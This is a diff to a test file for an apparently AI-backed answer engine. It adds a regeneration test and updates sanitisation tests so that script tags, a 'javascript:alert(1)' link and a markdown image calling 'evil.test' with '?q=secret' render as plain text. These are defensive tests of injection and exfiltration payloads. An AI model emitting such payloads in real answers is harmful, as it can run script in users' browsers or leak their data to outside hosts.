@@ -41,6 +41,16 @@ describe('a fake engine that is ready', () => {
     await shows(reader.dialog, 'Answers are written by models.test');
   });
 
+  it('writes it again when asked to', async () => {
+    const reader = await visit({ pieces: ['Locked at nine [1].'] });
+    await reader.ask(QUESTION);
+    await reader.page.getByRole('button', { name: 'Write it again' }).click();
+    await reader.told('ask-done', 2);
+    await shows(generated(reader), 'Locked at nine');
+    const calls = await asked(reader);
+    expect(calls.filter((call) => call === 'generate').length).toBeGreaterThanOrEqual(2);
+  });
+
   it('loses citations that name no passage', async () => {
     const reader = await visit({ pieces: ['Locked at nine [1], they say [7] [12].'] });
     await reader.ask(QUESTION);
@@ -117,8 +127,12 @@ describe('a fake engine that is ready', () => {
       '<div onclick="x()">\n<script>document.title=1</script>\n</div>',
       '<script>',
     ],
-    ['a link to a script', 'See [this](javascript:alert(1)) now', '[this](javascript:alert(1))'],
-    ['a remote image', 'See ![x](https://evil.test/?q=secret) now', '![x](https://evil.test/'],
+    ['a link to a script', 'See [this](javascript:alert(1)) now', 'this (javascript:alert(1))'],
+    [
+      'a remote image',
+      'See ![x](https://evil.test/?q=secret) now',
+      'x (https://evil.test/?q=secret)',
+    ],
     ['a table', '| a | b |\n| - | - |\n| <b>1</b> | 2 |', '<b>1</b>'],
   ])('cannot make %s: it stays text', async (_, text, shown) => {
     const reader = await visit({ pieces: [text] });
